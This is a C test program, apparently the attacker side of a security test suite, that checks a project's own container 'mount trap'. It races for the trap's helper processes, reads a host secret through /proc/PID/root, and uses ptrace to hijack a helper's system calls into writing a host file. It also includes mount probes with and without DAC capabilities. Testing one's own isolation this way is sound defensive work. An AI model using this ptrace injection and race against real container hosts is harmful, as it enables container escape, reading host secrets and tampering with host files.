/*
 * An attacker inside a system container, aimed at the mount trap (docs/security.md).
 * Built static at test time by tests/tests/mounttrap_attack.rs; x86_64 only.
 *
 *   race MOUNTPOINT HOST_SECRET HOST_PWNED SECONDS
 *       Loops `mount -t proc` on MOUNTPOINT in a child while racing for the helper
 *       processes the trap starts in this pid namespace (the next pids after the child's,
 *       with `__mounttrap-helper` in their command line): opens HOST_SECRET through /proc/PID/root, and
 *       PTRACE_SEIZEs them and hijacks their next system call into
 *       openat(HOST_PWNED, O_CREAT) + write. Prints seen=, read_host=, attached=,
 *       injected= (counts) and stops after the first injection, after racing ENOUGH
 *       helpers or after SECONDS.
 *   probe PATH...
 *       mount("proc", PATH, "proc", 0, NULL) for each PATH; prints PATH=0:<MemTotal in kB
 *       of the new mount> or PATH=<errno name>, and unmounts what it mounted.
 *   probe-without-dac PATH...
 *       The same without CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH (CAP_SYS_ADMIN kept):
 *       the trap must not resolve PATH with more rights than its caller has.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <linux/capability.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define CANDIDATES 12
/* Helper processes raced before giving up. */
#define ENOUGH 40

static double now(void) {
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* The trap's helpers run as `/proc/self/exe __mounttrap-helper` (comm "exe"). */
static int is_helper(pid_t pid) {
	char path[64], cmdline[256] = {0};
	snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, cmdline, sizeof cmdline - 1);
	close(fd);
	for (ssize_t i = 0; i < n; i++)
		if (cmdline[i] == 0)
			cmdline[i] = ' ';
	return n > 0 && strstr(cmdline, "__mounttrap-helper") != NULL;
}

/* Reads HOST_SECRET through the helper's root; 1 if it got the secret's bytes. */
static int read_through_root(pid_t pid, const char *secret) {
	char path[4096], buf[256];
	snprintf(path, sizeof path, "/proc/%d/root%s", pid, secret);
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, buf, sizeof buf);
	close(fd);
	return n > 0;
}

static int wait_stop(pid_t pid, int *status) {
	for (;;) {
		if (waitpid(pid, status, __WALL) == pid)
			return WIFSTOPPED(*status) ? 0 : -1;
		if (errno != EINTR)
			return -1;
	}
}

static int poke(pid_t pid, unsigned long addr, const char *s) {
	size_t len = strlen(s) + 1;
	for (size_t i = 0; i < len; i += sizeof(long)) {
		long word = 0;
		memcpy(&word, s + i, len - i < sizeof(long) ? len - i : sizeof(long));
		if (ptrace(PTRACE_POKEDATA, pid, addr + i, word) < 0)
			return -1;
	}
	return 0;
}

/* Waits for the tracee's next system call entry (PTRACE_O_TRACESYSGOOD stops). */
static int next_entry(pid_t pid) {
	for (int i = 0; i < 16; i++) {
		int status;
		if (ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 || wait_stop(pid, &status) < 0)
			return -1;
		if (WSTOPSIG(status) != (SIGTRAP | 0x80))
			continue;
		struct __ptrace_syscall_info info;
		if (ptrace(PTRACE_GET_SYSCALL_INFO, pid, sizeof info, &info) <= 0)
			return -1;
		if (info.op == PTRACE_SYSCALL_INFO_ENTRY)
			return 0;
	}
	return -1;
}

static int to_exit(pid_t pid) {
	int status;
	if (ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 || wait_stop(pid, &status) < 0)
		return -1;
	return 0;
}

/*
 * Hijacks the tracee's next system call into openat(AT_FDCWD, pwned, O_WRONLY|O_CREAT)
 * and then write(fd, "pwned\n"): what the attacker did to write a host file.
 */
static int inject(pid_t pid, const char *pwned) {
	struct user_regs_struct regs;
	if (next_entry(pid) < 0 || ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0)
		return -1;
	unsigned long buf = (regs.rsp - 2048) & ~15UL;
	if (poke(pid, buf, pwned) < 0 || poke(pid, buf + 1024, "pwned\n") < 0)
		return -1;
	regs.orig_rax = SYS_openat;
	regs.rdi = (unsigned long)AT_FDCWD;
	regs.rsi = buf;
	regs.rdx = O_WRONLY | O_CREAT | O_TRUNC;
	regs.r10 = 0644;
	if (ptrace(PTRACE_SETREGS, pid, 0, &regs) < 0 || to_exit(pid) < 0)
		return -1;
	if (ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0 || (long)regs.rax < 0)
		return -1;
	long fd = regs.rax;
	/* Back onto the syscall instruction, this time as write. */
	regs.rip -= 2;
	regs.rax = SYS_write;
	regs.rdi = fd;
	regs.rsi = buf + 1024;
	regs.rdx = 6;
	if (ptrace(PTRACE_SETREGS, pid, 0, &regs) < 0 || next_entry(pid) < 0 || to_exit(pid) < 0)
		return -1;
	if (ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0)
		return -1;
	return (long)regs.rax == 6 ? 0 : -1;
}

/* 1 if attached (and then 2 if the injection worked too). */
static int attack(pid_t pid, const char *pwned) {
	if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) < 0)
		return 0;
	int result = 1;
	int status;
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && wait_stop(pid, &status) == 0 &&
	    inject(pid, pwned) == 0)
		result = 2;
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return result;
}

static int race(const char *target, const char *secret, const char *pwned, double seconds) {
	long seen = 0, read_host = 0, attached = 0, injected = 0, mounts = 0;
	mkdir(target, 0755);
	double end = now() + seconds;
	while (now() < end && injected == 0 && seen < ENOUGH) {
		pid_t child = fork();
		if (child == 0) {
			int rc = mount("proc", target, "proc", 0, NULL);
			if (rc == 0)
				umount2(target, MNT_DETACH);
			_exit(rc == 0 ? 0 : 1);
		}
		if (child < 0)
			break;
		pid_t last_seen[CANDIDATES] = {0};
		int done = 0;
		while (!done) {
			for (int i = 1; i <= CANDIDATES; i++) {
				pid_t pid = child + i;
				if (!is_helper(pid))
					continue;
				if (last_seen[i - 1] != pid) {
					last_seen[i - 1] = pid;
					seen++;
				}
				read_host += read_through_root(pid, secret);
				int r = attack(pid, pwned);
				attached += r > 0;
				injected += r == 2;
			}
			int status;
			pid_t w = waitpid(child, &status, WNOHANG);
			if (w == child) {
				done = 1;
				mounts += WIFEXITED(status) && WEXITSTATUS(status) == 0;
			}
		}
	}
	printf("mounts=%ld\nseen=%ld\nread_host=%ld\nattached=%ld\ninjected=%ld\n", mounts, seen,
	       read_host, attached, injected);
	return 0;
}

static int probe(int n, char **paths) {
	for (int i = 0; i < n; i++) {
		int rc = mount("proc", paths[i], "proc", 0, NULL);
		if (rc == 0) {
			char path[4096];
			long kb = -1;
			snprintf(path, sizeof path, "%s/meminfo", paths[i]);
			FILE *f = fopen(path, "r");
			if (f) {
				if (fscanf(f, "MemTotal: %ld", &kb) != 1)
					kb = -1;
				fclose(f);
			}
			printf("%s=0:%ld\n", paths[i], kb);
			umount2(paths[i], MNT_DETACH);
		} else {
			printf("%s=%s\n", paths[i], strerrorname_np(errno) ? strerrorname_np(errno) : "?");
		}
	}
	return 0;
}

/* Drops CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH from every set. */
static int drop_dac(void) {
	struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
	struct __user_cap_data_struct data[2];
	if (syscall(SYS_capget, &header, data) < 0)
		return -1;
	unsigned mask = ~((1u << CAP_DAC_OVERRIDE) | (1u << CAP_DAC_READ_SEARCH));
	data[0].effective &= mask;
	data[0].permitted &= mask;
	data[0].inheritable &= mask;
	return syscall(SYS_capset, &header, data);
}

int main(int argc, char **argv) {
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 6 && strcmp(argv[1], "race") == 0)
		return race(argv[2], argv[3], argv[4], atof(argv[5]));
	if (argc >= 3 && strcmp(argv[1], "probe") == 0)
		return probe(argc - 2, argv + 2);
	if (argc >= 3 && strcmp(argv[1], "probe-without-dac") == 0) {
		if (drop_dac() < 0) {
			perror("capset");
			return 1;
		}
		return probe(argc - 2, argv + 2);
	}
	fprintf(stderr, "usage: %s race MOUNTPOINT HOST_SECRET HOST_PWNED SECONDS | probe[-without-dac] PATH...\n",
	        argv[0]);
	return 2;
}
